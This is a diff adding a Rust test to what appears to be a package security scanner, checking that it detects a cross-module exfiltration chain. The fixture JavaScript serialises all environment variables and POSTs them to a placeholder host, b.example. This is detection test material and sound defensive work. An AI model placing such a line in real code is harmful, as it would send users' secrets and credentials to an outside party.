@@ -702,3 +702,34 @@ fn compatibility_scanner_never_panics_on_deep_nesting_and_long_lines() {
     let _ = scan_source("q.js", "a.".repeat(100_000).as_bytes());
     let _ = scan_source("t.js", "'a'+".repeat(100_000).as_bytes());
 }
+
+/// Issue 13 (behaviour chains across the package graph): a secret exported by
+/// one module and sent by another is an exfiltration-chain in the sender; one
+/// named variable (an API token the extension uses for its own service) is not.
+#[test]
+fn compatibility_scanner_chains_cross_modules_of_a_package() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(d.join("package.json"), r#"{"main": "send.js"}"#).unwrap();
+    std::fs::write(d.join("secret.js"), "module.exports.all = JSON.stringify(process.env);").unwrap();
+    std::fs::write(d.join("token.js"), "module.exports.t = process.env.API_TOKEN;").unwrap();
+    std::fs::write(
+        d.join("send.js"),
+        "const s = require('./secret'); const k = require('./token');\n\
+         fetch('https://a.example', {method: 'POST', body: k.t});\n\
+         fetch('https://b.example', {method: 'POST', body: s.all});\n",
+    )
+    .unwrap();
+    let reports = scan_paths(&[d.to_path_buf()]);
+    let send = reports.iter().find(|r| r.file.ends_with("send.js")).unwrap();
+    let chains: Vec<u32> = send
+        .findings
+        .iter()
+        .filter(|f| f.rule == RuleId::ExfiltrationChain)
+        .map(|f| f.line)
+        .collect();
+    assert_eq!(chains, vec![3], "{:?}", send.findings);
+    // Scanned alone, the sender has no source: the chain needs the graph.
+    let alone = scan_source("send.js", &std::fs::read(d.join("send.js")).unwrap());
+    assert_eq!(alone.count(RuleId::ExfiltrationChain), 0);
+}
